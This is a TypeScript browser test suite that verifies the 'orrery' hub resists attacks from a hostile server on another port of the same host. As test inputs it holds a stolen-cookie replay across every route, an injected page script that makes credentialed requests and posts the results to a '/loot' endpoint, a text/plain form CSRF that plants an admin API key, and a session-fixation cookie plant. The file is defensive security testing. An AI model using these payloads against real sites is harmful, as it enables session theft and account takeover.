import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { becomeOwner, openBrowser } from './browser.ts';
import { forge, type HostileServer, startHostileServer } from './hostile-server.ts';
import { pageHeaders } from './page-headers.ts';
import { orrery, type Product, scratch, startProduct } from './product.ts';
import { addAccount, signIn } from './second-account.ts';

/** Another program listens on another port of the host name at which the owner is signed in. */
let folder: Awaited<ReturnType<typeof scratch>>;
let browser: Browser;
let product: Product;
let hostile: HostileServer;
const data = () => join(folder.path, 'data');

beforeAll(async () => {
  folder = await scratch();
  await mkdir(join(folder.path, 'claude', 'projects'), { recursive: true });
  product = await startProduct(['--data', data(), '--claude-dir', join(folder.path, 'claude')]);
  browser = await openBrowser();
  hostile = await startHostileServer();
  const console = await browser.newContext();
  await becomeOwner(console, product.setupUrl ?? '');
  await console.close();
  addAccount(data(), { name: 'Eve', email: 'eve@example.com', role: 'viewer' });
});

afterAll(async () => {
  await hostile?.close();
  await browser?.close();
  await product?.stop();
  await folder?.remove();
});

/** Keys that exist, as the command line on the hub's machine lists them. */
async function keyNames(): Promise<string> {
  const { stdout } = await orrery(['api-key', 'list', '--data', data()]);
  return stdout;
}

/** Visits the other program's page, as a person who follows a link does. */
async function visit(context: BrowserContext, name: string, script = '', path = '/'): Promise<Page> {
  hostile.script = script;
  const page = await context.newPage();
  await page.goto(`http://${name}:${hostile.port}${path}`);
  return page;
}

/** Runs in the service worker: presses the button of a notification, as the browser tells of it. */
async function pressApprove(): Promise<void> {
  const { registration } = globalThis as unknown as { registration: ServiceWorkerRegistration };
  for (const old of await registration.getNotifications()) old.close();
  const data = { sessionId: 's', requestId: 'nothing', title: 'Work' };
  await registration.showNotification('asks', { tag: 's', data });
  const [notification] = await registration.getNotifications();
  const Press = (globalThis as unknown as { NotificationEvent: typeof Event }).NotificationEvent;
  dispatchEvent(new Press('notificationclick', { notification, action: 'approve' } as EventInit));
}

/** Runs in the service worker: what the notification about the failure says; empty before it is there. */
async function shownBody(): Promise<string> {
  const { registration } = globalThis as unknown as { registration: ServiceWorkerRegistration };
  const all = await registration.getNotifications();
  return all.map(({ body }) => body).find((body) => body !== '') ?? '';
}

describe.each(['127.0.0.1', 'localhost'])('at %s', (name) => {
  const hubUrl = () => `http://${name}:${new URL(product.url).port}`;
  let owner: BrowserContext;

  beforeAll(async () => {
    owner = await browser.newContext();
    owner.setDefaultTimeout(15_000);
    await signIn(owner, hubUrl(), 'ana@example.com');
  });
  afterAll(() => owner?.close());

  /** True when the owner's page is signed in and live. */
  async function isOwnerIn(): Promise<boolean> {
    const page = await owner.newPage();
    await page.goto(hubUrl());
    await page.getByText('Live', { exact: true }).first().waitFor();
    const isIn = await page.getByTestId('signal-board').isVisible();
    await page.close();
    return isIn;
  }

  test('a stolen cookie reads nothing, changes nothing and opens no socket', async () => {
    hostile.cookies.length = 0;
    await (await visit(owner, name)).close();
    const cookie = hostile.cookies.find((one) => one.includes('session_token=')) ?? '';
    expect(cookie, 'the browser sends the cookie to every port').not.toBe('');
    const { host } = new URL(hubUrl());
    const before = await keyNames();
    const documented = await forge(hubUrl(), 'GET', '/api/openapi.json', {
      ...{ host, origin: hubUrl(), cookie },
      ...(await pageHeaders(owner, hubUrl())),
    });
    const { paths } = JSON.parse(documented.text) as { paths: Record<string, Record<string, unknown>> };
    const routes = Object.entries(paths).flatMap(([path, methods]) =>
      Object.keys(methods).map((method) => ({ method: method.toUpperCase(), path })),
    );
    expect(routes.length).toBeGreaterThan(30);
    const open = [
      ...['/api/health', '/api/setup', '/api/setup/code'],
      ...['/api/auth/sign-in/email', '/api/auth/reset-password'],
    ];
    const json = { 'content-type': 'application/json' };
    const ways = [{}, { 'x-orrery-page': '' }, { 'x-orrery-page': 'A'.repeat(43) }];
    for (const { method, path } of routes) {
      if (open.includes(path)) continue;
      for (const way of ways) {
        const hasBody = method === 'POST' || method === 'PUT';
        const headers = { host, origin: hubUrl(), cookie, ...way, ...(hasBody ? json : {}) };
        const body = hasBody ? '{}' : '';
        const answer = await forge(hubUrl(), method, path.replace('{id}', 'x'), headers, body);
        expect([method, path, answer.status]).toEqual([method, path, 401]);
      }
    }
    const key = JSON.stringify({ role: 'admin', name: 'planted by another port' });
    const made = await forge(
      hubUrl(),
      'POST',
      '/api/api-keys',
      { host, origin: hubUrl(), cookie, ...json },
      key,
    );
    expect(made).toMatchObject({ status: 401, text: expect.stringMatching(/Sign in again on this page/) });
    expect(await keyNames()).toBe(before);
    const upgrade = {
      ...{ connection: 'Upgrade', upgrade: 'websocket' },
      ...{ 'sec-websocket-version': '13', 'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==' },
    };
    for (const protocols of ['', 'orrery.live', `orrery.live, orrery.ticket.${'A'.repeat(43)}`]) {
      const offered = protocols === '' ? {} : { 'sec-websocket-protocol': protocols };
      const headers = { host, origin: hubUrl(), cookie, ...upgrade, ...offered };
      expect((await forge(hubUrl(), 'GET', '/live', headers)).status).toBe(401);
    }
    const out = await forge(
      hubUrl(),
      'POST',
      '/api/auth/sign-out',
      { host, origin: hubUrl(), cookie, ...json },
      '{}',
    );
    expect(out.status).toBe(401);
    expect(await isOwnerIn()).toBe(true);
  });

  test("a page of another port gets nothing out of the owner's browser", async () => {
    const before = await keyNames();
    hostile.loot.length = 0;
    const hub = JSON.stringify(hubUrl());
    const script = `(async () => {
      const hub = ${hub};
      const found = [];
      const key = JSON.stringify({ role: 'admin', name: 'planted by a page' });
      const tries = [
        () => fetch(hub + '/api/me', { credentials: 'include' }).then((r) => r.text()),
        () => fetch(hub + '/api/me', { credentials: 'include', mode: 'no-cors' }).then((r) => r.text()),
        () => fetch(hub + '/api/me', { credentials: 'include', headers: { 'x-orrery-page': 'x' } }).then((r) => r.text()),
        () => fetch(hub + '/api/api-keys', { method: 'POST', credentials: 'include', mode: 'no-cors', body: key }).then((r) => r.text()),
        () => fetch(hub + '/api/live-ticket', { method: 'POST', credentials: 'include', mode: 'no-cors' }).then((r) => r.text()),
        () => navigator.serviceWorker.register(hub + '/sw.js').then(() => 'registered'),
        () => indexedDB.databases().then((all) => all.map((each) => each.name).join()),
        () => new Promise((resolve, reject) => {
          const socket = new WebSocket(hub.replace('http', 'ws') + '/live', ['orrery.live']);
          socket.onmessage = (event) => resolve('socket ' + event.data);
          socket.onclose = socket.onerror = () => reject(new Error('closed'));
        }),
        () => new Promise((resolve, reject) => {
          const frame = document.createElement('iframe');
          frame.src = hub + '/';
          frame.onload = () => { try { resolve(frame.contentDocument.body.innerText); } catch (error) { reject(error); } };
          document.documentElement.append(frame);
        }),
      ];
      for (const one of tries) {
        try { found.push(await one()); } catch { found.push(''); }
      }
      await fetch('/loot', { method: 'POST', body: JSON.stringify(found) });
    })();`;
    const page = await visit(owner, name, script);
    await expect.poll(() => hostile.loot.length, { timeout: 30_000 }).toBeGreaterThan(0);
    expect(JSON.parse(hostile.loot[0] ?? '')).toEqual(Array.from({ length: 9 }, () => ''));
    await page.close();
    const form = `addEventListener('load', () => {
      const form = document.createElement('form');
      form.method = 'post'; form.enctype = 'text/plain'; form.action = ${hub} + '/api/api-keys';
      const field = document.createElement('input');
      field.name = '{"role":"admin","name":"planted by a form","x":"'; field.value = '"}';
      form.append(field); document.documentElement.append(form); form.submit();
    });`;
    const posting = await visit(owner, name, form);
    await posting.waitForURL(`${hubUrl()}/**`);
    await posting.close();
    expect(await keyNames()).toBe(before);
    expect(await isOwnerIn()).toBe(true);
  });

  test('a cookie that another port sets makes nobody somebody else, and ends no session', async () => {
    const mallory = await browser.newContext();
    await signIn(mallory, hubUrl(), 'eve@example.com');
    const planted = (await mallory.cookies(hubUrl())).find((one) => one.name.includes('session_token'));
    if (planted === undefined) throw new Error('Eve is not signed in.');
    const victim = await browser.newContext();
    victim.setDefaultTimeout(15_000);
    hostile.plants = ['/', '/api'].map((path) => `${planted.name}=${planted.value}; Path=${path}`);
    // A browser that nobody signed in at is signed in as nobody.
    await (await visit(victim, name)).close();
    const page = await victim.newPage();
    await page.goto(`${hubUrl()}/settings/machines`);
    await page.getByText('Sign in again on this page').waitFor();
    // Whoever signs in there is themselves, at the page that was asked for, whatever cookies lie before theirs.
    await page.getByLabel('E-mail address').fill('ana@example.com');
    await page.getByLabel('Password').fill('correct horse battery');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForURL('**/settings/machines');
    await page.getByRole('button', { name: 'Account of Ana Ferreira' }).waitFor();
    // And stays so, when the other port sets them again.
    hostile.plants = [`${planted.name}=${planted.value}; Path=/api`];
    await (await visit(victim, name, '', '/api/x')).close();
    await page.reload();
    await page.getByRole('button', { name: 'Account of Ana Ferreira' }).waitFor();
    hostile.plants = [];
    await victim.close();
    await mallory.close();
  });

  test('a session that began without a page secret must sign in again, in words, and comes to the page asked for', async () => {
    const context = await browser.newContext();
    context.setDefaultTimeout(15_000);
    await context.addCookies(await owner.cookies(hubUrl()));
    const page = await context.newPage();
    await page.goto(`${hubUrl()}/browse?q=webhooks`);
    await page.getByText('Sign in again on this page').waitFor();
    await page.getByLabel('E-mail address').fill('ana@example.com');
    await page.getByLabel('Password').fill('correct horse battery');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForURL('**/browse?q=webhooks');
    await context.close();
  });

  test('the description of the interface opens for whoever is signed in, and is kept from others', async () => {
    const page = await owner.newPage();
    await page.goto(`${hubUrl()}/api/docs`);
    await page.getByText('/api/permissions/{id}/approve').first().waitFor();
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download as OpenAPI' }).click(),
    ]);
    expect(file.suggestedFilename()).toBe('orrery-openapi.json');
    await page.close();
    const stranger = await browser.newContext();
    const outside = await stranger.newPage();
    await outside.goto(`${hubUrl()}/api/docs`);
    await outside.getByRole('button', { name: 'Sign in' }).waitFor();
    await stranger.close();
  });

  test('a new password leaves the page signed in, in every tab, and makes the secret of before worthless', async () => {
    const email = `pia-${name}@example.com`;
    addAccount(data(), { name: 'Pia', email, role: 'viewer' });
    const context = await browser.newContext();
    context.setDefaultTimeout(15_000);
    await signIn(context, hubUrl(), email);
    const other = await context.newPage();
    await other.goto(`${hubUrl()}/settings/account`);
    await other.getByText(email).first().waitFor();
    const page = await context.newPage();
    await page.goto(`${hubUrl()}/settings/account`);
    const before = await pageHeaders(context, hubUrl());
    await page.getByLabel('Current password').fill('correct horse battery');
    await page.getByLabel('New password', { exact: true }).fill('an even better password');
    await page.getByLabel('New password again').fill('an even better password');
    await page.getByRole('button', { name: 'Change the password' }).click();
    await page.getByText('The password was changed.').waitFor();
    const cookie = (await context.cookies(hubUrl())).map((one) => `${one.name}=${one.value}`).join('; ');
    const ask = async (proof: Record<string, string>) => {
      const headers = { host: new URL(hubUrl()).host, cookie, ...proof };
      return (await forge(hubUrl(), 'GET', '/api/me', headers)).status;
    };
    expect([await ask(before), await ask(await pageHeaders(context, hubUrl()))]).toEqual([401, 200]);
    for (const tab of [page, other]) {
      await tab.getByRole('button', { name: 'Sign out everywhere else' }).click();
      await tab.getByText('You were signed in nowhere else.').last().waitFor();
      expect(new URL(tab.url()).pathname).toBe('/settings/account');
    }
    await context.close();
  });

  test('the answer to a push notification counts as one of the page, until sign-out', async () => {
    const context = await browser.newContext();
    context.setDefaultTimeout(15_000);
    await context.grantPermissions(['notifications'], { origin: hubUrl() });
    await signIn(context, hubUrl(), 'ana@example.com');
    const page = await context.newPage();
    await page.goto(hubUrl());
    const [worker] = await Promise.all([
      context.waitForEvent('serviceworker'),
      page.evaluate(async () => void (await navigator.serviceWorker.register('/sw.js', { scope: '/' }))),
    ]);
    await page.evaluate(async () => void (await navigator.serviceWorker.ready));
    /** What is shown after Approve was pressed for a request that is over. */
    const press = async () => {
      await worker.evaluate(pressApprove);
      const shown = () => worker.evaluate(shownBody);
      await expect.poll(shown, { timeout: 15_000 }).not.toBe('');
      return shown();
    };
    // The hub knows who asks: it says what is wrong with the request, not with the sign-in.
    expect(await press()).toMatch(/^Work: (?!You are signed out)/);
    await page.getByRole('button', { name: 'Account of Ana Ferreira' }).click();
    await page.getByRole('menuitem', { name: 'Sign out' }).click();
    await page.getByLabel('Password').waitFor();
    expect(await press()).toMatch(/^Work: You are signed out\. Nothing ran\./);
    await context.close();
  });

  test('sign-out ends the session, and what the page kept of it goes', async () => {
    const context = await browser.newContext();
    context.setDefaultTimeout(15_000);
    await signIn(context, hubUrl(), 'eve@example.com');
    const headers = await pageHeaders(context, hubUrl());
    const me = () => context.request.get(`${hubUrl()}/api/me`, { headers });
    expect((await me()).status()).toBe(200);
    const page = await context.newPage();
    await page.goto(hubUrl());
    await page.getByRole('button', { name: 'Account of Eve' }).click();
    await page.getByRole('menuitem', { name: 'Sign out' }).click();
    await page.getByLabel('Password').waitFor();
    expect((await me()).status()).toBe(401);
    expect(await pageHeaders(context, hubUrl())).toEqual({ origin: hubUrl(), 'x-orrery-page': '' });
    await context.close();
  });
});
